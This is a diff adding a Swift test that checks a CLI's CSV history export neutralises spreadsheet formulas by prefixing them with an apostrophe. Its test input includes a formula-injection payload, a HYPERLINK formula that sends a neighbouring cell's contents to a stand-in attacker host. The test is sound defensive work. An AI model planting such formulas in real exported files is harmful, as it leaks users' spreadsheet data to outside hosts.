@@ -36,4 +36,28 @@ import Testing
         let json = try CLIProcess.run(["history", "h-1", "--db", db, "--format", "json"])
         #expect(json.stdout.contains(#"dup\r2026-03-02"#) && json.stdout.contains(#"\u001b[8m"#), "\(json.stdout.suffix(600))")
     }
+
+    /// A cancel reason written as a spreadsheet formula reached the CSV as one: the cell now
+    /// starts with `'`, so a spreadsheet shows it as text.
+    @Test func aFormulaInCaseDataIsTextInCSV() async throws {
+        let dir = try Scratch.folder("caseflow-history-formula")
+        let db = dir.appendingPathComponent("cases.sqlite").path
+        let engine = SalesCasesFixture.engine
+        let start = SalesCasesFixture.start
+        let opened = try engine.open(caseID: "h-2", workflow: "service-sales", data: [("customer", "@SUM(1+1)")], by: "alice", at: start).get()
+        let formula = #"=HYPERLINK("http://evil.example/"&A1,"x")"#
+        let cancelled = try engine.handle(.cancel(reason: formula), on: opened.state, by: "alice", at: start + Int64(60_000)).get()
+        let store = try SQLiteStore(path: db)
+        try await store.commit(CaseWrite(caseID: "h-2", expectedVersion: 0, events: opened.events + cancelled.events,
+                                         snapshot: try StoredCase(state: cancelled.state, engine: engine, updatedAt: start)))
+        let csv = try CLIProcess.run(["history", "h-2", "--db", db, "--format", "csv"])
+        #expect(csv.status == 0, "\(csv.stderr)")
+        let rows = csv.stdout.split(separator: "\n").map(String.init)
+        let cancel = try #require(rows.first { $0.contains("case_cancelled") })
+        #expect(cancel.contains(#","'=HYPERLINK(""http://evil.example/""&A1,""x"")","#), "\(cancel)")
+        #expect(!rows.contains { $0.contains(#",=HYPERLINK"#) || $0.contains(#","=HYPERLINK"#) })
+        // The stored reason is as given.
+        let json = try CLIProcess.run(["history", "h-2", "--db", db, "--format", "json"])
+        #expect(json.stdout.contains(#""reason":"=HYPERLINK(\"http://evil.example/\"&A1,\"x\")""#), "\(json.stdout.suffix(400))")
+    }
 }
